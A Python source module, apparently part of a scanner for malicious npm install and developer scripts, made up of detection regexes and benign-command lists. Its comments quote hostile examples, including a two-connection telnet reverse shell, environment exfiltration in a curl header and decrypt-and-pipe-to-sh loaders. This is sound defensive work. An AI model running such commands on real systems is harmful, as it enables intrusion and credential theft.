"""Lifecycle scripts: what runs when a package is installed, and whether it looks like an attack.

npm runs `preinstall`, `install` and `postinstall` of every dependency (and `prepare` of git and
local dependencies); a package with a `binding.gyp` and no install script gets an implicit
`node-gyp rebuild`, and node-gyp itself evaluates `<!(...)` command expansions in binding.gyp.
Most malicious npm packages act from here. Having a script is a capability, not intent: the common
legitimate ones (native builds, prebuilt-binary installers, git hooks) are named as such, and the
findings with weight are the behaviours attacks use — fetching and piping to a shell, running
encoded or inline code, dumping secrets, reaching the network.
"""

from __future__ import annotations

import ast
import posixpath
import re
from dataclasses import dataclass, replace
from typing import Iterable, Iterator, Mapping

from ..model import Confidence, Finding, Severity
from . import linear_re
from .agent_commands import agent_commands
from .base import AnalysisContext, RuleInfo
from .build_events import build_events
from .code import patterns as P
from .code.strings import decode_b64, decode_b64_gzip, decode_utf16_b64, echoed_script
from .editor_keys import terminal_keystrokes
from .podspec import podspec_scripts
from .unity import editor_commands

INSTALL_HOOKS = ("preinstall", "install", "postinstall", "prepare")
"""In the order npm runs them. `prepare` runs only for git/local installs, hence lower weight."""
DEVELOPER_HOOKS = ("pretest", "test", "posttest", "prestart", "start", "poststart", "predev", "dev", "prebuild", "build",
                   "postbuild", "serve")
"""Scripts a developer runs in a package's directory (`npm test`, `npm start`): never on install, but a take-home
assignment or a cloned repository is run so (Contagious Interview's fake interviews, 2023-2025)."""

# Commands that legitimate packages run at install time, recognised so they are not flagged.
KNOWN_BENIGN = [
    (re.compile(r"^node-gyp(-build)?( rebuild| configure| build)*( --[\w=-]+)*$"), "native addon build (node-gyp)"),
    (re.compile(r"^node-pre-gyp install( --[\w=-]+)*$"), "prebuilt native addon (node-pre-gyp)"),
    (re.compile(r"^prebuild-install( -r \w+| --[\w=-]+| -t [\w.]+)*$"), "prebuilt native addon (prebuild-install)"),
    (re.compile(r"^node-gyp-build(-optional)?( --[\w=-]+)*$"), "native addon build (node-gyp-build)"),
    (re.compile(r"^cmake-js (compile|build|rebuild)( --?[\w=-]+)*$"), "native addon build (cmake-js)"),
    (re.compile(r"^husky( install)?( [\w./-]+)?$"), "git hooks (husky)"),
    (re.compile(r"^is-ci$"), "CI detection (is-ci)"),
    (re.compile(r"^patch-package( --[\w=-]+)*$"), "applies local patches (patch-package)"),
    (re.compile(r"^opencollective(-postinstall)?( postinstall)?$"), "funding message (opencollective)"),
    (re.compile(r"^echo( .*)?$"), "prints a message"),
    (re.compile(r"^(npx )?only-allow [\w-]+$"), "package-manager check (only-allow)"),
    (re.compile(r"^(exit 0|true|:)$"), "does nothing"),
]

FETCH = linear_re.compile(r"\b(curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|certutil(?:\.exe)?\s+[^|&;]*-urlcache|bitsadmin|"
                          r"DownloadString|DownloadData|DownloadFile|Start-BitsTransfer)\b", ignore_case=True)
SOCKET_FETCH = linear_re.compile(r"\bopenssl\s+s_client\b|\b(nc|ncat|netcat|telnet)\s+(-\w+\s+)*[\w.:-]+\s+\d+|\bsocat\s+\S",
                                 ignore_case=True)
"""A raw socket read (`openssl s_client -connect h:443`, `nc h 4444`): piped to a shell, a download that runs, with no
downloader named."""
PIPE_TO_SHELL = linear_re.compile(r"\|\s*(sudo\s+)?([\w.-]*/)*(env\s+)?((ba|z|da)?sh|node|python3?|perl|ruby)\b|\|\s*(iex|Invoke-Expression)\b|\b(sh|bash)\s+-c\s+[\"']?\$\(\s*(curl|wget)|"
                                  r"(\bsource|(^|[\s;&|(\"'])\.|\b(ba|z|da)?sh)\s+<\(\s*(curl|wget|\(\s*(curl|wget))\b|"
                                  r"\b(iex|Invoke-Expression)\s*\(|\b(iex|Invoke-Expression)\s+[^|;&\n]*\.DownloadString\s*\(|"
                                  # (`$s = $wc.DownloadString(u); if ($s) { IEX $s }`: what was fetched, run from a variable)
                                  r"\b(iex|Invoke-Expression)\s+\$\w|"
                                  # (`Start-Job -ScriptBlock ([scriptblock]::Create($s))`: a script block made of fetched text)
                                  r"\[scriptblock\]::Create\s*\(\s*\$\w", ignore_case=True)
REMOTE_RUN = linear_re.compile(r"\b(uv\s+(tool\s+)?run|uvx|pipx\s+run|deno\s+run|bunx?\s+run)\b[^|;&\n]*?\s['\"]?https?://",
                               ignore_case=True)
"""A runner given a script's URL (`uv run https://…/x.py`, `pipx run https://…`, `deno run https://…`): it downloads the
script and runs it, a cradle in one command."""
PACKAGE_URL_RUN = linear_re.compile(r"\b(npx|bunx|npm\s+exec|pnpm\s+dlx|yarn\s+dlx)(\s+-[-\w]+(=\S*)?)*\s+['\"]?https?://",
                                    ignore_case=True)
"""A package runner given a tarball's URL (`npx --yes http://…/x.tgz`): it downloads the package and runs its bin."""
RELEASE_HOSTS = ("github.com/", "codeload.github.com/", "registry.npmjs.org/", "objects.githubusercontent.com/")
"""Where projects publish their own tarballs (a migration tool on the SDK's GitHub releases, run by its CLI's
`migrate` command: @anthropic-ai/sdk 1.10.0)."""


def runs_from_url(command: str) -> bool:
    """A runner handed code by URL: a script's (`deno run https://…`), or a package tarball's (`npx -y http://…/x.tgz`)
    from a host other than a project's releases or the registry."""
    if REMOTE_RUN.search(command) is not None:
        return True
    match = PACKAGE_URL_RUN.search(command)
    return match is not None and not command[match.end():].lower().startswith(RELEASE_HOSTS)


ENCODED = linear_re.compile(r"base64\s+(-d|--decode)|\bxxd\s+(-r\s*-?p|-p\s*-?r)\w*\s*\|\s*(/usr)?(/bin/)?(ba|z|da)?sh\b|\beval\s+\"?\$\([^)]*\|\s*rev\b|\|\s*rev\s*\|\s*(ba|z|da)?sh\b|\beval\s+\"?\$\(\s*printf\s+['\"](\\([0-7]{3}|x[0-9a-fA-F]{2})){8}|powershell(\.exe)?\s+.*-e(nc(odedcommand)?)?\s+[A-Za-z0-9+/=]{16,}|\bFromBase64String\b|\batob\(|Buffer\.from\([^)]*['\"](base64|hex)['\"]", ignore_case=True)
DECRYPT_RUN = linear_re.compile(r"\bopenssl\s+[^|\n]*\s-(d|-decrypt)\b[^|\n]*\|\s*(sudo\s+)?(/usr)?(/bin/)?(ba|z|da)?sh\b", ignore_case=True)
"""`echo "$_s" | openssl enc -aes-256-cbc -d -A -base64 -pass pass:… | sh`: a script decrypted with the key the command
carries and run (Shlayer's installer scripts, 2019-2020, decrypted their own last line)."""
INLINE_CODE = linear_re.compile(r"\bnode\s+(-e|--eval|-p|--print)\b|\bpython3?\s+(-[\w.]+\s+)?-c\b|\bperl\s+(-[MI][\w:.=,]+\s+)*-[eE]\b|\bruby\s+(-r\w+\s+)*-e\b|"
                                r"\s-c\s+['\"]?(import|from)\s+\w")
"""Code given on the command line (after the interpreter's options: `perl -MHTTP::Tiny -e`); Python's also by its first
statement, the interpreter being a variable (`spawn(bin, ['-c', 'import base64;exec(…)'])`)."""
PYTHON_BASE64 = re.compile(r"b64decode\(\s*b?['\"]([A-Za-z0-9+/=]{16,})['\"]")
"""A base64 literal Python inline code decodes (`exec(base64.b64decode('aW1w…'))`): the code it runs."""
NETWORK_TOOL = linear_re.compile(r"(?:^|[^\w$-])(nc|ncat|netcat|socat|telnet|nslookup|dig|host|ping)\s+\S", ignore_case=True)
"""A network tool at the start of a word (not PowerShell's `Write-Host "…"`, `$host.UI`, or `Get-Host`)."""
ENV_DUMP = r"\bprintenv(\s*$|\s*[|>;)`])|(^|[;&|(`]\s*)env(\s*$|\s*[|>;)`])|(^|[;&|(`]\s*)set\s*(\||>\s*[^&\s])"
"""The whole environment printed: `env`, bare `printenv`, batch `set |` or `set > file` (also inside `$( … )`)."""
SECRETS = linear_re.compile(r"\.npmrc|_authToken|\bNPM_TOKEN\b|\bGITHUB_TOKEN\b|\bGH_TOKEN\b|\bAWS_(SECRET_)?ACCESS_KEY|\.ssh[/\\]|id_rsa|\.aws[/\\]credentials|"
                            + ENV_DUMP, ignore_case=True)
LOOT = linear_re.compile(r"\.npmrc|\.ssh[/\\]|id_rsa|serviceaccount/token|service-accounts/[\w@.-]+/token|iam/security-credentials/|"
                         r"metadata/identity/oauth2/token|\.aws[/\\]credentials|\.git-credentials|\.docker[/\\]config\.json|"
                         r"\.foundry[/\\]keystores|\.ethereum[/\\]keystore|solana[/\\]id\.json|\$\{?\w*(PRIVATE_KEY|MNEMONIC)\b|" + ENV_DUMP,
                         ignore_case=True)
"""What is loot wherever it goes: the environment, credential files (a Kubernetes pod's service-account token; a cloud
instance's role or service-account token, from the metadata server's credential paths), wallet
keystores and a private key or seed phrase variable. (A token variable in a request's header is how a script downloads from a private registry.)"""
SENDS = linear_re.compile(r"\b(curl|wget)\b[^|;&]*\s(-d|--data(-\w+)?|-F|--form|-T|--upload-file|--post-(data|file)|-X\s*['\"]?(POST|PUT))\b|"
                          r"\b(curl|wget)\b[^;&\n]*\s(-H|--header)\s*['\"]?[^'\"\n]*\$\(\s*(env|printenv|cat)\b|"
                          r"\|\s*(curl|wget|nc|ncat|netcat|socat)\b|\bInvoke-(WebRequest|RestMethod)\b[^|;&]*-(Body|InFile)\b|"
                          r"\b(nc|ncat|netcat|socat)\s+\S|\bftp(\.exe)?\s+(-\w+\s+)*-s:", ignore_case=True)
"""A command that sends data out: curl/wget with a body, an upload or a header made of what a command prints (`-H "x-e:
$(env | base64)"`), a pipe into a network tool, Windows' ftp
running a script of commands (`ftp -n -s:cmds.txt`: its `put` lines upload)."""
RECON = linear_re.compile(r"\$\(\s*(whoami|hostname|id|uname|pwd)\b[^)]*\)|`(whoami|hostname|id|uname|pwd)\b[^`]*`|%USERNAME%|%COMPUTERNAME%|\$env:(USERNAME|COMPUTERNAME)", ignore_case=True)
WHO = linear_re.compile(r"\$\(\s*(whoami|hostname|id)\b[^)]*\)|`(whoami|hostname|id)\b[^`]*`|%USERNAME%|%COMPUTERNAME%|"
                       r"\$env:(USERNAME|COMPUTERNAME)|\bsocket\.gethostname\(|\bgetpass\.getuser\(|\bos\.getlogin\(|"
                       r"\bplatform\.node\(", ignore_case=True)
"""Who and which machine: what a beacon reports (`$(uname -m)` in a download URL picks a binary, it reports no one); in
a `python -c` line too (`socket.gethostname()`, `getpass.getuser()`)."""
PY_NETWORK = linear_re.compile(r"\burlopen\(|\burllib\.request\b|\brequests\.(get|post|put)\(|\bhttp\.client\b|"
                              r"\bsocket\.(gethostbyname(_ex)?|getaddrinfo|create_connection)\(|\bdns\.resolver\b")
"""A request or a DNS lookup made by inline Python (`python3 -c "…urllib.request…urlopen(url)"`,
`socket.gethostbyname(user + '.' + host + '.oast…')`)."""
URL = linear_re.compile(r"\b(?:https?|ftp)://[^\s'\"`|;&)]+", ignore_case=True)
RAW_IP_URL = linear_re.compile(r"\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?", ignore_case=True)
WIPE = linear_re.compile(r"\brm\s+(-\w+\s+)*-\w*[rR]\w*\s+(-\w+\s+)*(/|~/?|\$HOME/?|\$\{HOME\}/?|/\*|~/\*)(\s|$|[;&|'\"])|"
                  r"\brd\s+/s\s+/q\s+[A-Za-z]:\\?(\s|$)|\bdel\s+(/\w\s+)*[A-Za-z]:\\\*|\bformat\s+[A-Za-z]:|\bshred\b[^|;&]*\s-\w*u", ignore_case=True)
AI_AGENT_UNLEASHED = linear_re.compile(r"--dangerously-skip-permissions|--yolo\b|--trust-all-tools|--dangerously-bypass-approvals\w*|"
                                r"--allow-all-tools|--approval-mode[= ]yolo", ignore_case=True)
SCRIPT_HOST = linear_re.compile(r"\bmshta(\.exe)?\s+['\"]?(https?:|vbscript:|javascript:)|\bregsvr32(\.exe)?\b[^|;&\n]*/i:\s*https?://|"
                                r"\brundll32(\.exe)?\s+[^|;&\n]*javascript:|\b[cw]script(\.exe)?\s+[^|;&\n]*https?://|"
                                r"\bmsiexec(\.exe)?\s+[^|;&\n]*/(i|package|j[mu]?)\s*['\"]?https?://|"
                                # WMIC applying a stylesheet from the network or a file (Astaroth's `/format:` XSL with script)
                                r"\bwmic(\.exe)?\b[^|;&\n]*/format:\s*['\"]?(https?:|[^\s'\"]*\.xsl\b)|"
                                # An app package installed from the network: App Installer's `ms-appinstaller:?source=` URI
                                # (turned off by Microsoft in 2023 for its abuse by loaders) or `Add-AppxPackage` given a URL
                                # or an .appinstaller file (which names the package's URL)
                                r"\bms-appinstaller:\?source=|\bAdd-AppxPackage\b[^|;&\n]*(https?:|-AppInstallerFile\b)|"
                                # Node told to load a module from the network before the script it runs (`node
                                # --experimental-network-imports --import https://…/loader.mjs`)
                                r"\bnode\b[^|;&\n]*\s--(import|require|loader|experimental-loader)[ =]['\"]?https?://",
                                ignore_case=True)
MINER = linear_re.compile(r"stratum\+(tcp|ssl|tls)://|--donate-level\b|\b(xmrig|xmr-stak|cpuminer|minerd|cgminer|t-rex|"
                          r"phoenixminer|nbminer|ethminer|lolminer|gminer)\b|--algo[= ](rx/0|randomx|cryptonight|kawpow|ethash)\b|"
                          r"\bPOOL=\S+\s[^|;&\n]*\bWALLET=|\bWALLET=\S+\s[^|;&\n]*\bPOOL=|--cpu-max-threads-hint\b|--randomx-mode\b|"
                          r"\s-o\s+(stratum\+\w+://)?[\w.-]+:\d{4,5}\s+-u\s+\S+",
                          ignore_case=True)
PATH_PERSIST = linear_re.compile(r"\breg(\.exe)?['\"]?\s+add\s+['\"]?(HKCU|HKEY_CURRENT_USER)\\+Environment['\"]?\s+/v\s+['\"]?Path\b|"
                                 r"\breg(\.exe)?['\"]?\s+add\s+['\"]?(HKLM|HKEY_LOCAL_MACHINE)\\+SYSTEM\\+CurrentControlSet\\+Control\\+"
                                 r"Session Manager\\+Environment['\"]?\s+/v\s+['\"]?Path\b|\bsetx\s+(/m\s+)?['\"]?PATH\b|"
                                 r"SetEnvironmentVariable\(\s*['\"]Path['\"][^)]*(User|Machine)", ignore_case=True)
"""The PATH of every later session rewritten (the user's or the machine's, in the registry): programs typed by name
are then looked up first where the script chose."""
REGISTRY_CODE = linear_re.compile(r"\b(Get-ItemProperty(Value)?|gp\s+['\"]?(HK\w*:|Registry::)|\[Microsoft\.Win32\.Registry\]|Registry::)[^\n]{0,300}"
                                  r"\b(iex|Invoke-Expression)\b|\b(iex|Invoke-Expression)\b[^\n]{0,40}\b(Get-ItemProperty(Value)?|gp\s)",
                                  ignore_case=True)
"""PowerShell running code it reads from a registry value: a payload kept in the registry, with no file on disk
(fileless storage, as Kovter and Poweliks did, and a Run key or task that loads it)."""
KERNEL_DRIVER = linear_re.compile(r"\binsmod\s+\S+|\b(Nt|Zw)LoadDriver\b|\bsc(\.exe)?['\"]?\s+create\b[^\n]*\btype=\s*['\"]?(kernel|filesys)\b|"
                                  r"\bNew-Service\b[^\n]*\.sys\b|\bkextload\b|\bfltmc(\.exe)?\s+load\b|"
                                  r"\bbcdedit(\.exe)?\s+/set\s+(\{\w+\}\s+)?(testsigning|nointegritychecks)\s+on\b", ignore_case=True)
"""A kernel module or driver loaded, or Windows' driver signature checks turned off: what rootkits (Diamorphine, Skidmap) and
EDR killers that bring a vulnerable signed driver (Terminator, 2023) do; a library that ships a driver installs it with an
installer the user runs, not from a package manager's hook."""
SCAN_HOOKS = r"AmsiScanBuffer|amsiInitFailed|AmsiUtils|EtwEventWrite"
"""Windows' scanning of scripts (AMSI) and event tracing (ETW): named only to patch them out of memory."""
PROC_HIDING = r"\bmount\s+(-o\s+bind|--bind|-B)\s+\S+\s+/proc/"
"""A directory mounted over a process's /proc entry: ps, top and every scanner stop seeing the process."""
DOWNLOAD_CHECKS = (r"spctl\s+--master-disable|SaveZoneInformation|LowRiskFileTypes|LSQuarantine\b[^|;&\n]*\b(?:NO|false|0)\b|"
                   r"chmod\s+\+a\s+['\"]?everyone\s+deny\b[^'\"\n]*writeextattr|"
                   r"\bgo\s+env\s+-w\b[^|;&\n]*\b(?:GOSUMDB=off|GONOSUMDB=\*|GONOSUMCHECK=1|GOFLAGS=\S*-insecure)")
"""What checks a downloaded program before it first runs, turned off for the whole system or a whole folder: macOS
Gatekeeper and its quarantine flag (also an ACL that stops the flag being written, CVE-2022-42821 'Achilles'),
Windows' Mark of the Web (no zone saved with downloads, executables as low-risk types), Go's checksum database for
every later build (`go env -w GOSUMDB=off`: modules no longer checked against what the world was served)."""
RECOVERY_OFF = (r"vssadmin(\.exe)?\s+(delete\s+shadows|resize\s+shadowstorage)|wmic(\.exe)?\s+shadowcopy\b[^|;&\n]*\bdelete\b|"
                r"Win32_ShadowCopy\b[^|;&\n]*\|\s*Remove-(CimInstance|WmiObject)|"
                r"bcdedit(\.exe)?\s+/set\s+\S+\s+(recoveryenabled\s+no|bootstatuspolicy\s+ignoreallfailures)|"
                r"wbadmin(\.exe)?\s+delete\s+(catalog|systemstatebackup|backup)|Disable-ComputerRestore\b|"
                r"tmutil\s+(deletelocalsnapshots|delete\s|disable\b)")
"""The system's own way back, removed before the damage (MITRE T1490, what every ransomware family runs first):
Windows' shadow copies, backup catalog and boot recovery, System Restore, Time Machine's snapshots."""
DEFENCE_OFF = linear_re.compile(r"\b(Add-MpPreference\b[^|;&\n]*-Exclusion\w+|Set-MpPreference\b[^|;&\n]*-Disable\w+|"
                                # (Defender's policy values set to 1: reg add, Set-ItemProperty, a GPO's Set-GPRegistryValue)
                                r"(Disable(AntiSpyware|AntiVirus|RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|OnAccessProtection)"
                                r"\b['\"]?[^|;&\n]*(-Value\s+1\b|/d\s+1\b))|"
                                r"ms-settings\\+shell\\+open\\+command|mscfile\\+shell\\+open\\+command|"
                                r"netsh\s+(advfirewall\s+set\s+\w+\s+state\s+off|firewall\s+set\s+opmode\s+disable)|"
                                r"setenforce\s+0|ufw\s+disable|iptables\s+(-t\s+\w+\s+)?-F\b|"
                                + PROC_HIDING + "|"
                                r"iptables\s+(-t\s+\w+\s+)?-P\s+(INPUT|OUTPUT|FORWARD)\s+ACCEPT|auditctl\s+-[eD]\b|"
                                + SCAN_HOOKS + "|" + DOWNLOAD_CHECKS + "|" + RECOVERY_OFF + ")", ignore_case=True)
"""Turning the host's defences off: Windows Defender exclusions or real-time protection off (by its cmdlets or its
policy values in the registry or a Group Policy), the
fodhelper/eventvwr UAC bypass (a command planted under ms-settings or mscfile), the firewall (ufw,
iptables flushed or opened), macOS Gatekeeper and Windows' Mark of the Web, SELinux, the audit daemon's rules, Windows' scan and event
hooks for scripts patched in memory (AMSI's AmsiScanBuffer or amsiInitFailed, ETW's EtwEventWrite), and a process hidden
from ps and top by a mount over its /proc entry."""
PRIVILEGE = linear_re.compile(r"/etc/sudoers\b|\bNOPASSWD\b|\bdocker\s+run\b[^|;&\n]*--privileged[^|;&\n]*\s-v\s+/:|"
                              r"\bdocker\s+run\b[^|;&\n]*\s-v\s+/:/\w+[^|;&\n]*--privileged|\bchmod\s+[ugo]*\+s\b|\bchmod\s+[4-7][0-7]{3}\b|"
                              r"\bsetcap\s+cap_", ignore_case=True)
"""Taking root: a sudoers rule, a privileged container with the host's root mounted, a setuid bit, capabilities."""
WRITES_TO = re.compile(r"(?:>>?|\btee\s+(?:-a\s+|--append\s+)?|\b(?:Add|Set)-Content\s+(?:-Path\s+)?|\bOut-File\s+(?:-FilePath\s+)?|"
                       r"\bsed\s+-i\S*\s+(?:-e\s+)?(?:'[^']*'|\"[^\"]*\"|\S+)\s+)\s*['\"]?(?P<target>[^\s'\";|&>]+)", re.I)
"""Where a command writes: a redirection, tee, PowerShell's content cmdlets, an in-place sed."""
DLL_RUN = re.compile(r"\brundll32(\.exe)?['\"]?\s+['\"]?(?!(?:[\w:\\/%.-]*[\\/])?(url|shell32|user32|advpack|ieframe|zipfldr|printui|keymgr|"
                     r"sysdm|shdocvw|mshtml|dfshim|inetcpl)\.(dll|cpl)\b)[^\s,]+,\s*[#\w]+|"
                     r"\b(control(\.exe)?|Control_RunDLL)['\"]?\s+['\"]?[^'\"\s]*[\\/%][^'\"\s]*\.cpl\b", re.I)
r"""rundll32 calling an export of a DLL that is not one of Windows' own (the package's, or one it dropped); a Control
Panel item (a DLL) started from a path, not one of Windows' own applets by name (`control.exe %DST%\iconcache.cpl`)."""
UPDATE_CLIENT_DLL = re.compile(r"/UpdateDeploymentProvider\s+['\"]?\S", re.I)
"""The Windows Update client made to load a DLL (`wuauclt.exe /UpdateDeploymentProvider x.dll /RunHandlerComServer`,
Lazarus 2022): a signed system binary as the payload's host, which no installer needs."""
DLL_INJECTION = re.compile(r"\bmavinject(\.exe)?['\"]?\s+\S+\s+/INJECTRUNNING\b", re.I)
"""Microsoft's App-V injector loading a DLL into a running process (`mavinject.exe <pid> /INJECTRUNNING x.dll`): a signed
system program injecting the payload into explorer.exe or a browser, which no installer does."""
TLS_DOWNGRADE = linear_re.compile(r"\b(npm|yarn|pnpm)\s+config\s+set\s+strict-ssl\s+false\b|"
                                 r"\bgit\s+config\s+--global\s+http\.sslVerify\s+false\b|"
                                 r"\bpip3?\s+config\s+set\s+global\.trusted-host\b|"
                                 r"\binsecure\b[^|;&\n]*>>\s*['\"]?\S*\.curlrc\b|\bcheck_certificate\s*=\s*off\b[^|;&\n]*>>|"
                                 r"\bexport\s+(NODE_TLS_REJECT_UNAUTHORIZED=0|GIT_SSL_NO_VERIFY=(1|true)|PYTHONHTTPSVERIFY=0)\b[^|;&]*>>",
                                 ignore_case=True)
"""The user's tools told, in their own settings, to accept any certificate (npm's strict-ssl, git's http.sslVerify, pip's
trusted hosts, curl's `insecure`, the variables written into a shell profile): every later download can be swapped on
the way. An install script has the user's settings to read, not to weaken."""
MAILBOX_GRANT = linear_re.compile(r"\b(Add-MailboxPermission|Add-RecipientPermission|Add-MailboxFolderPermission|Set-MailboxFolderPermission)\b"
                                 r"[^|;\n]*-AccessRights\s+['\"]?(FullAccess|SendAs|Owner|Editor|Reviewer|PublishingEditor)\b|"
                                 r"\bNew-ManagementRoleAssignment\b[^|;\n]*-Role\s+['\"]?ApplicationImpersonation\b|"
                                 r"\bSet-Mailbox\b[^|;\n]*-GrantSendOnBehalfTo\b", ignore_case=True)
"""Exchange rights granted over mailboxes (full access, send-as, folder reading, impersonation of every user): a
delegate the attacker controls reads and sends as the organisation's people."""
PORT_MONITOR = re.compile(r"(\breg(\.exe)?\s+add|\bNew-Item(Property)?|\bSet-ItemProperty|\$\w+\s*=)\s+[^|;&\n]*"
                          r"\\Control\\+Print\\+Monitors\\+", re.I)
"""A print spooler port monitor registered (`HKLM\\SYSTEM\\CurrentControlSet\\Control\\Print\\Monitors\\<name>`, its
`Driver` a DLL): the spooler, running as SYSTEM, loads it at every boot (MITRE T1547.010)."""
RDP_TRUST = re.compile(r"(\breg(\.exe)?\s+add|\bNew-Item(Property)?|\bSet-ItemProperty)\s+[^|;&\n]*\\+Terminal Server Client"
                       r"(\\+LocalDevices\b|[^|;&\n\\]*\bAuthenticationLevelOverride\b)", re.I)
"""Remote Desktop's own checks turned off for the user (`HKCU\\…\\Terminal Server Client\\LocalDevices` trusting a server
with the user's drives and devices, `AuthenticationLevelOverride` 0: connect whatever the server's certificate): what a
rogue `.rdp` file needs to open with no warning (Midnight Blizzard's 2024 campaign)."""
DISGUISED_DLL = re.compile(r"\brundll32(\.exe)?['\"]?\s+['\"]?[^\s,'\"]*\.(?!(?:dll|cpl|ocx|drv|ax)\b)[A-Za-z0-9]{1,6},\s*[#\w]+", re.I)
"""rundll32 on a file named as something other than a library (`Release\\x64\\Demo.vcxproj.dat,CleanupTraceSession`):
the payload of the 2021 Visual Studio project lure, kept where a reader takes it for build data."""
CREDENTIAL_DUMP = linear_re.compile(r"\bcomsvcs(\.dll)?['\"]?,?\s*(#24|MiniDump)\b|\breg(\.exe)?\s+save\s+['\"]?(hklm|HKEY_LOCAL_MACHINE)\\+(sam|system|security)\b|"
                                    r"\bprocdump(64)?(\.exe)?\s+[^|;&\n]*-ma\s+[^|;&\n]*lsass|\b(sekurlsa|lsadump|mimikatz)\b|"
                                    r"\bntdsutil(\.exe)?\s+[^|;&\n]*\bifm\b|\bunshadow\s", ignore_case=True)
"""The machine's credential stores dumped: LSASS's memory (comsvcs MiniDump, procdump), the SAM/SYSTEM/SECURITY
hives, Active Directory's database, the shadow file merged for cracking."""
LIBRARY_INJECTION = linear_re.compile(r"(>>?\s*|\btee\s+(-a\s+)?|\b(cp|mv|install)\s+(-\w+\s+)*\S+\s+)/etc/ld\.so\.preload\b|:LSEnvironment:DYLD_INSERT_LIBRARIES\b|"
                                      r"\blaunchctl\s+setenv\s+DYLD_INSERT_LIBRARIES\b|"
                                      r"\b(reg(\.exe)?\s+add|New-ItemProperty|Set-ItemProperty)\b[^|;&\n]*\b(Notification|Authentication|Security) Packages\b|"
                                      r"\b(cp|ditto|mv|install|rsync)\s+[^|;&\n]*/Library/Security/SecurityAgentPlugins\b|\bauthorizationdb\s+write\b|"
                                      r"\bnetsh(\.exe)?\s+add\s+helper\b",
                                      ignore_case=True)
"""Other programs made to load a library the script chose: the dynamic linker's preload list (every process of a Linux
host: the userland rootkits' way), an app's `LSEnvironment` or the login session's `DYLD_INSERT_LIBRARIES`, LSA's
packages (a DLL that LSASS loads and hands every new password or logon) and macOS authorization plugins (code the login
window runs as root with the typed password); a netsh helper DLL (loaded by every netsh)."""
CI_RUNNER = linear_re.compile(r"\bconfig\.(sh|cmd)\b[^|;&\n]*--url\s+\S+[^|;&\n]*--token\b[^|;&\n]*--unattended|"
                              r"\bconfig\.(sh|cmd)\b[^|;&\n]*--unattended[^|;&\n]*--url\s+\S+[^|;&\n]*--token\b|"
                              r"\bgitlab-runner\s+register\b[^|;&\n]*--(registration-)?token\b", ignore_case=True)
"""A CI runner registered for a repository, unattended (the Actions runner's `config.sh`, `gitlab-runner register`)."""
SCHEDULED = linear_re.compile(r"\bschtasks(\.exe)?\s+[^|;&\n]*/create\b|\bRegister-ScheduledTask\b|\bNew-ScheduledTaskTrigger\b|"
                              r"\blaunchctl\s+(load|bootstrap)\b|\bsystemctl\s+--user\s+enable\b|\bpm2\s+startup\b|\bpm2-startup\s+install\b|"
                              r"\bbrew\s+services\s+(start|restart)\b|"
                              r"\breg(\.exe)?\s+add\s+[^|;&\n]*\\CurrentVersion\\(Policies\\Explorer\\)?(Run|Winlogon\b)|"
                              r"\.RegWrite\s*\(?\s*['\"]HK[\w]*\\+Software\\+Microsoft\\+Windows\\+CurrentVersion\\+(Policies\\+Explorer\\+)?Run|"
                              r"\b(reg(\.exe)?\s+add|(Set|New)-ItemProperty)\s+[^|;&\n]*\bUserInitMprLogonScript\b|"
                              r"\|\s*crontab\s+-(?:\s|$|\))|@reboot\b|/etc/cron\.(d|hourly|daily)/|/var/spool/cron/|"
                              r"\b(docker|podman)\s+(container\s+)?run\b[^|;&\n]*--restart[= ](always|unless-stopped)\b|"
                              + P.EVENT_HOOKS, ignore_case=True)
"""A task, agent, user service, Run key (also written by Windows Script Host's `sh.RegWrite "HKCU\\…\\Run\\x"`; or
`HKCU\\Environment`'s `UserInitMprLogonScript`, run at every logon) or cron entry registered so that something runs
again at logon or on a timer (`pm2 startup` writes a boot service that restarts pm2's saved processes; `brew services
start x` a launchd agent that starts x at every login), or a
container that the container daemon starts again at every boot (`docker run -d --restart=always`). Also a hook
another program runs on its own events (`patterns.EVENT_HOOKS`)."""
DNS_TAMPER = linear_re.compile(r"\bnetworksetup\s+-setdnsservers\b|>\s*/etc/resolv\.conf\b|\bSet-DnsClientServerAddress\b|"
                               r"\bnetsh(\.exe)?\s+interface\s+(ip|ipv4)\s+(set|add)\s+dns|\bresolvectl\s+dns\s|"
                               r"\bnmcli\s+[^|;&\n]*ipv4\.dns\s", ignore_case=True)
"""The machine's DNS servers replaced: every name it looks up is then answered by whoever the script chose."""
PROXY_TAMPER = linear_re.compile(r"\bnetworksetup\s+-set(web|secureweb|socksfirewall|autoproxy)(proxy|url)\b|"
                                 r"\bgsettings\s+set\s+org\.gnome\.system\.proxy\b|\bnetsh(\.exe)?\s+winhttp\s+set\s+proxy\b|"
                                 r"\b(reg(\.exe)?\s+add|Set-ItemProperty|New-ItemProperty)\s[^|;&\n]*\b(AutoConfigURL|ProxyServer)\b",
                                 ignore_case=True)
"""The machine's proxy settings replaced (macOS network services, GNOME, WinHTTP, Windows' Internet Settings): every
browser and app then sends its web traffic, or asks which proxy to use, where the script chose (Retefe's banking
interception set a proxy auto-config URL)."""
CONFIG_PROFILE = linear_re.compile(r"\bprofiles\s+(install\b|-I\b|(-\w+\s+)*-F\s)|\bopen\s+[^|;&\n]*\.mobileconfig\b|"
                                   r"\bopen\s+['\"]?x-apple\.systempreferences:com\.apple\.(Profiles-Settings|preferences\.configurationprofiles)",
                                   ignore_case=True)
"""A macOS configuration profile installed, or opened for the user to approve (the file, or System Settings' Profiles
pane that asks for it): it sets DNS, proxies, trusted root certificates and browser policies for the whole account, as
adware and MDM-style hijacks do."""
GLOBAL_INSTALL = linear_re.compile(r"\b(npm|pnpm|bun)\s+(install|i|add)\s+[^|;&\n]*(-g|--global)\b|\byarn\s+global\s+add\b|"
                                   r"\bnpm\s+(install|i)\s+(-g|--global)\b", ignore_case=True)
"""A package installed globally from an install hook: code the user never asked for, on their PATH."""
REVERSE_SHELL = linear_re.compile(r"/dev/(tcp|udp)/|/inet[46]?/(tcp|udp)/\d+/|\b(ba|z)?sh\s+-i\b|\b(nc|ncat|netcat)\b[^|;&]*\s-[ec]\s|mkfifo\b[^;&|]*;|\bsocat\b[^|;&]*exec:"
                                  # the two-connection shell: `telnet h 4443 | /bin/sh | telnet h 4444`
                                  r"|\b(telnet|nc|ncat|netcat)\b([^|;&\n]|[0-9]?>&[0-9])*\|\s*(/bin/|/usr/bin/)?(ba|z|da)?sh\b([^|;&\n]|[0-9]?>&[0-9])*\|\s*"
                                  r"(telnet|nc|ncat|netcat)\b"
